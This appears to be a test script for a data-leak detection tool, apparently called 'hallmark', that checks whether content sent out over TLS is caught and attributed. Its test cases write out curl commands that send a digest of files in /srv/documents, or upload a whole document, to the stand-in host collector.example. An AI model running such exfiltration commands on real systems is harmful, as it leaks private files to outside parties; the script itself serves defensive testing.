#!/bin/bash
# What leaves inside TLS is seen as if it left in the clear: a digest in a header by its field, a document that is uploaded by its token.
#   tls-experiment.sh BUILD
set -u
hallmark=$(realpath "$1/hallmark") verify=$(realpath "$1/hallmark-verify")
command -v curl >/dev/null || { echo "1..0 # SKIP no curl"; exit 0; }
. "$(dirname "$0")/../support/chamber.sh" tls-experiment
"$hallmark" keygen "$work/key.pem" >/dev/null || exit 1
assess() { # NAME COMMAND
	timeout 400 "$hallmark" assess --key "$work/key.pem" --pairs 8 --factors content --json -o "$work/$1.hallmark" -- bash -c "$2" >"$work/$1.json" 2>"$work/$1.err"
}
ask() { # NAME EXPRESSION: of the findings `f`, must be true
	/usr/bin/python3 -c "
import json, sys
f = json.load(open(sys.argv[1]))
content = next(c for c in f['claims'] if c['id'] == 'collect.content')
told = [(i['endpoint'], i['layer'], i['feature'], i['grade']) for i in f['influence']]
whole = lambda row: row['constant'] + row['explained'] + row['unaccounted'] + sum(i['bytes'] for i in row['influenced'])
sys.exit(0 if $2 else 1)" "$work/$1.json"
}
verified() { "$verify" "$work/$1.hallmark" --key "$work/key.pem.pub" >"$work/said"; ! grep -q FALSE "$work/said" && grep -q 'holds .*findings' "$work/said"; }

assess sum 'curl -sS -H "X-Sum: $(rev /srv/documents/note* | md5sum | cut -c 1-15)" https://collector.example/report'
result "$([ $? = 1 ]; echo $?)" "a digest in a header inside TLS is refuted"
sed 's/^/# /' "$work/sum.err" | head -n 5
ask sum "told == [('collector.example:443/tcp', 'tls', '0.0.http.header.x-sum', 'dependent')]"
result $? "... by the name of the header, of nothing else"
ask sum "sum(i['bytes'] for row in f['ledger'] for i in row['influenced']) == 15 * (f['experiment']['runs'] - 6)"
result $? "... and its bytes are those of the header's value, but in runs with wrong certificates, which nothing is compared with"
ask sum "all(whole(row) == row['wire'] for row in f['ledger']) and f['ledger']"
result $? "... every byte stands in one class"
verified sum
result $? "... its bundle verifies"
"$hallmark" report "$work/sum.hallmark" -o "$work/sum.html" && grep -q 'the HTTP header x-sum differed' "$work/sum.html" &&
	grep -q 'Inside TLS: [0-9,]* bytes of application data' "$work/sum.html" && ! grep -q 'bytes stay closed' "$work/sum.html"
result $? "... and the report shows what was inside"

assess upload 'curl -sS --tls-max 1.2 --data-binary @"$(ls /srv/documents/note* | head -n 1)" https://collector.example/report'
result "$([ $? = 1 ]; echo $?)" "a document that is uploaded by TLS 1.2 is refuted"
sed 's/^/# /' "$work/upload.err" | head -n 5
ask upload "content['reason'] == 'content.token' and all(e['layer'] == 'tls' for e in content['evidence'])"
result $? "... by its token, in the plaintext"
ask upload "('collector.example:443/tcp', 'tls', 'token', 'proven') in told"
result $? "... and influence says so"
ask upload "all(whole(row) == row['wire'] for row in f['ledger']) and f['ledger']"
result $? "... every byte stands in one class"
verified upload
result $? "... its bundle verifies"
"$hallmark" report "$work/upload.hallmark" -o "$work/upload.html" && grep -q 'bytes [0-9,]* to [0-9,]* inside TLS' "$work/upload.html"
result $? "... and the report cites bytes inside TLS"
echo "1..$n"
exit $failed
